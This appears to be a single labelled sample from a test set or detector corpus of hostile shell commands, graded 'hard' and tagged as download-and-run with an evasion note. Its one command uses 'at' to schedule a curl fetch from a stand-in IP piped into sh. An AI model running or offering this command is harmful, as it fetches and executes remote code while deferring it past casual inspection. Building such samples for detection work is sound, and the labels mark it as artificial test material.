# evasion: at runs a download later from a here-string
# grade: hard; does: download-run
at now <<< 'curl -s http://203.0.113.5/s | sh'
